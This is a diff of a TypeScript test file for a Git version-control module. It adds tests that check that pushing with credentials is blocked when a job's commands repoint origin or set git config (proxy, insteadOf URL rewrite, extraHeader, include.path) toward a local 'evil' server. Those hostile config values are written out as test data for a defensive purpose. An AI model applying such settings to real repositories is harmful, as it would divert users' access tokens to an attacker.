@@ -327,22 +327,49 @@ layer(TestLayer, { excludeTestServices: true })("GitVcs", (it) => {
       })
     )
 
-    it.effect("the askpass helper answers only for the origin the token belongs to", () =>
+    it.effect("a push with credentials goes only to the origin the checkout came from", () =>
       Effect.gen(function* () {
         const vcs = yield* Vcs
         const co = yield* vcs.checkout({
           url: server.url("origin.git"),
-          into: fresh("redirect"),
+          into: fresh("moved"),
           credentials: creds(TOKEN)
         })
-        yield* vcs.createBranch(co.dir, "redirected")
-        // A job's command rewrites where pushes go.
-        sb.git(co.dir, "config", `url.http://127.0.0.1:${evil.port}/.insteadOf`, `http://127.0.0.1:${server.port}/`)
-        const e = yield* vcs.push(co.dir, "redirected", { credentials: creds(TOKEN) }).pipe(Effect.flip)
-        assert.instanceOf(e, VcsAuthError)
-        assert.isAbove(evil.requests.length, 0)
-        const sent = evil.authorizations.map((a) => Buffer.from(a.replace(/^Basic /, ""), "base64").toString())
-        for (const s of sent) assert.notInclude(s, TOKEN)
+        yield* vcs.createBranch(co.dir, "moved")
+        // A job's command points origin at another server.
+        sb.git(co.dir, "remote", "set-url", "origin", evil.url("origin.git"))
+        const before = evil.requests.length
+        const e = yield* vcs.push(co.dir, "moved", { credentials: creds(TOKEN) }).pipe(Effect.flip)
+        assert.instanceOf(e, VcsError)
+        assert.include(e.message, "origin is now")
+        assert.strictEqual(evil.requests.length, before)
+      })
+    )
+
+    it.effect("a push with credentials refuses config that could divert the token", () =>
+      Effect.gen(function* () {
+        const vcs = yield* Vcs
+        const risky = [
+          [`http.http://127.0.0.1:${server.port}/.proxy`, `http://127.0.0.1:${evil.port}`],
+          [`url.http://127.0.0.1:${evil.port}/.insteadOf`, `http://127.0.0.1:${server.port}/`],
+          ["http.extraHeader", "X-Leak: 1"],
+          ["include.path", "/tmp/elsewhere.config"]
+        ] as const
+        for (const [key, value] of risky) {
+          const co = yield* vcs.checkout({
+            url: server.url("origin.git"),
+            into: fresh("risky"),
+            credentials: creds(TOKEN)
+          })
+          yield* vcs.createBranch(co.dir, "risky")
+          sb.git(co.dir, "config", key, value)
+          const e = yield* vcs.push(co.dir, "risky", { credentials: creds(TOKEN) }).pipe(Effect.flip)
+          assert.instanceOf(e, VcsError)
+          assert.include(e.message, "refusing to push with credentials: the repository config sets")
+          assert.include(e.message.toLowerCase(), key.toLowerCase())
+        }
+        assert.strictEqual(sb.git(origin.bare, "branch", "--list", "risky"), "")
+        for (const a of evil.authorizations) assert.notInclude(Buffer.from(a.slice(6), "base64").toString(), TOKEN)
       })
     )
 
